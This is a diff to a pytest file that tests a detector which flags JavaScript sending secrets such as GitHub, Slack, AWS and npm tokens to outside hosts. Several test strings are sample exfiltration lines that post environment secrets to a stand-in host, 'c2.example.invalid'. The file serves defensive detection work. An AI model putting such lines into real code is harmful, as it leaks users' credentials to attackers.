@@ -189,8 +189,19 @@ spawnSync(process.execPath, [npmCli, 'config', 'get', 'registry'], { stdio: 'inh
 """
 
 
+# @smithy/credential-provider-imds (normalised view): the container credentials URI is the path
+# the provider requests, returned by a helper: a place, whatever word comes before it
+CREDENTIALS_URI_SETTING = """const http = require('http');
+const getCmdsUri = () => ({ hostname: '169.254.170.2',
+  path: process.env.AWS_CONTAINER_CREDENTIALS_RELATIVE_URI });
+const options = getCmdsUri();
+http.request({ ...options, timeout: 1000 }).end();
+"""
+
+
 @pytest.mark.parametrize("src", [CREDENTIAL_IN_ITS_OWN_REQUEST, HEADER_ASSIGNED,
-                                 SDK_ENDPOINT_SETTING, NPM_LIFECYCLE_SETTING])
+                                 SDK_ENDPOINT_SETTING, NPM_LIFECYCLE_SETTING,
+                                 CREDENTIALS_URI_SETTING])
 def test_a_credential_sent_as_its_own_requests_auth_and_settings_are_no_chain(src: str) -> None:
     assert find_chains(src.encode()) == []
 
@@ -210,6 +221,12 @@ def test_a_credential_sent_as_its_own_requests_auth_and_settings_are_no_chain(sr
      "process.env.npm_config__authToken"),
     # a service's own variable with no secret word is still a secret unless it names a place
     ("fetch('https://c2.example.invalid/?k=' + process.env.GITHUB_PAT);", "process.env.GITHUB_PAT"),
+    # a webhook URL is the credential itself, URL suffix or not
+    ("fetch('https://c2.example.invalid/', { method: 'POST', body: process.env.SLACK_WEBHOOK_URL });",
+     "process.env.SLACK_WEBHOOK_URL"),
+    # the same helper returning the token instead of the URI: still a secret where it goes
+    (CREDENTIALS_URI_SETTING.replace("RELATIVE_URI", "TOKEN"),
+     "process.env.AWS_CONTAINER_CREDENTIALS_TOKEN"),
     ("const https = require('https');\n"
      "https.get('https://c2.example.invalid/?k=' + process.env.AWS_SECRET_ACCESS_KEY);",
      "process.env.AWS_SECRET_ACCESS_KEY"),
@@ -229,6 +246,12 @@ const result = retry(readToken);
 http.request({ host: 'api.example.invalid', path: '/' + result }).end();
 """
     assert find_chains(src.encode()) == []
-    # what the function returns is still followed where the secret itself is passed on
-    leak = src.replace("retry(readToken)", "retry(readToken) + process.env.SERVICE_TOKEN")
-    assert find_chains(leak.encode())
+    # a function is what it returns: a getter of the secret is still a source where it is called
+    getter = src.replace("if (process.env.SERVICE_TOKEN) { return 'set'; } return '';",
+                         "return process.env.SERVICE_TOKEN;")
+    assert getter != src
+    found = find_chains(getter.encode())
+    assert found and found[0].source.what == "process.env.SERVICE_TOKEN"
+    arrow = ("const grab = () => process.env.NPM_TOKEN;\n"
+             "fetch('https://c2.example.invalid/?t=' + grab());\n")
+    assert find_chains(arrow.encode())
